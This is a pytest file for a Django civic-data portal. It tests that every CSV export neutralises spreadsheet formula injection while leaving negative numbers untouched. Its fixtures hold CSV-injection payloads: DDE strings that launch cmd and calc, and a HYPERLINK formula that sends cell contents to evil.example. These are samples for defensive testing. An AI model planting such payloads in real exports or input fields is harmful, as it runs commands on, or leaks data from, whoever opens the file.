"""Every CSV download neutralises text cells a spreadsheet would run as a formula (OWASP's CSV
injection advice: a cell starting with = + - @, a tab or a carriage return gets a leading '),
while numbers, negative ones included, stay numbers. Each channel is fed hostile text through
the way it really arrives: a feature's property, a published citizen report, an indicator's
source and name."""

import csv
import io

import pytest
from django.contrib.gis.geos import Point

from indicators.models import Indicator, IndicatorValue
from layers import editing
from layers.csv_safety import safe_cell
from reports import testing
from reports.models import Report
from tests.layers_fixtures import make_layer

pytestmark = pytest.mark.django_db

# (what an editor or a resident typed, what a spreadsheet must be given)
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Kliknij")',
     '\'=HYPERLINK("http://evil.example/?"&A1,"Kliknij")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]
HARMLESS = ["Biblioteka Główna", "-5", "+48", "-12.5", "e=mc2", "1+1", ""]


def body(response) -> str:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return raw.decode("utf-8-sig")


@pytest.mark.parametrize("text,expected", HOSTILE + [(t, t) for t in HARMLESS])
def test_safe_cell_prefixes_formula_starts_only(text, expected):
    assert safe_cell(text) == expected


@pytest.mark.parametrize("number", [-3, -12.5, 0, 7, -1e-9])
def test_numbers_are_never_touched(number):
    assert safe_cell(number) == number


@pytest.fixture
def hostile_layer(db):
    layer = make_layer("formula-layer", n=0, schema={"fields": [
        {"name": "name", "type": "string"}, {"name": "count", "type": "integer"},
        {"name": "area", "type": "decimal"}]})
    for i, (text, _) in enumerate(HOSTILE + [(t, t) for t in HARMLESS]):
        editing.create_feature(layer, Point(20.6 + i / 1000, 50.85, srid=4326),
                               {"name": text, "count": -3, "area": -12.5}, channel="test")
    return layer


def _by_position(rows, column):
    return [r[column] for r in rows]


def test_layer_csv_download_neutralises_text_and_keeps_negative_numbers(client, hostile_layer):
    for geometry in ("wkt", "lonlat"):
        response = client.get(f"/data/{hostile_layer.slug}.csv", {"geometry": geometry})
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(body(response), newline="")))
        assert _by_position(rows, "name") == [e for _, e in HOSTILE] + HARMLESS
        assert {r["count"] for r in rows} == {"-3"} and {r["area"] for r in rows} == {"-12.5"}


def test_a_published_reports_title_is_neutralised_in_the_csv(client, empty_cache):
    category = testing.category(trusted=True)
    title = '=HYPERLINK("http://evil.example","Zobacz zdjęcie")'
    description = "@SUM(1+1)*cmd|' /C calc'!A0"
    response = client.post("/reports/new/", {
        "category": category.slug, "lat": f"{testing.RYNEK[1]}", "lon": f"{testing.RYNEK[0]}",
        "title": title, "description": description, "email": "mieszkaniec@example.org",
        "duplicates_seen": "on"})
    assert response.status_code == 302 and Report.objects.get().is_public
    rows = list(csv.DictReader(io.StringIO(body(client.get("/data/zgloszenia.csv")),
                                           newline="")))
    mine = next(r for r in rows if r["report_id"] == str(Report.objects.get().pk))
    assert mine["title"] == "'" + title and mine["description"] == "'" + description


@pytest.fixture
def hostile_values(empty_cache):
    values = IndicatorValue.objects.filter(indicator__code="budget-votes", period="2017",
                                           area__layer__slug="okregi-wyborcze")
    assert values.count() == 5
    values.update(source="=cmd|' /C calc'!A0", value=-4.5)
    Indicator.objects.filter(code="budget-votes").update(name_pl="@SUM(1+1)")
    return values


def test_indicator_value_csvs_neutralise_text_and_keep_negative_values(client, hostile_values):
    one = client.get("/api/indicators/budget-votes/values/",
                     {"areas": "okregi-wyborcze", "period": "2017", "f": "csv"})
    every = client.get("/api/indicators/values/", {"indicator": "budget-votes",
                                                   "period": "2017", "f": "csv"})
    for response in (one, every):
        assert response.status_code == 200, response.content
        rows = list(csv.DictReader(io.StringIO(body(response), newline="")))
        rows = [r for r in rows if r.get("areas", "okregi-wyborcze") == "okregi-wyborcze"]
        assert len(rows) == 5
        assert {r["source"] for r in rows} == {"'=cmd|' /C calc'!A0"}
        assert {r["value"] for r in rows} == {"-4.5"}


def test_district_profile_csv_neutralises_text_and_keeps_negative_values(client,
                                                                         hostile_values):
    response = client.get("/districts/okreg-1.csv")
    assert response.status_code == 200
    rows = [r for r in csv.DictReader(io.StringIO(body(response), newline=""))
            if r["indicator"] == "budget-votes" and r["period"] == "2017"]
    assert len(rows) == 1
    assert rows[0]["name"] == "'@SUM(1+1)"
    assert rows[0]["source"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["value"] == "-4.5" and rows[0]["city_value"] != ""


def test_every_csv_writer_of_the_project_goes_through_the_helper():
    """A new CSV download cannot forget the neutralising: no app writes with csv directly."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    direct = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [str(p.relative_to(root)) for app in ("layers", "indicators", "portal",
                                                      "reports", "ogc", "tiles", "sdi", "ops")
                 for p in (root / app).rglob("*.py")
                 if direct.search(p.read_text()) and p.name != "csv_safety.py"]
    assert offenders == []
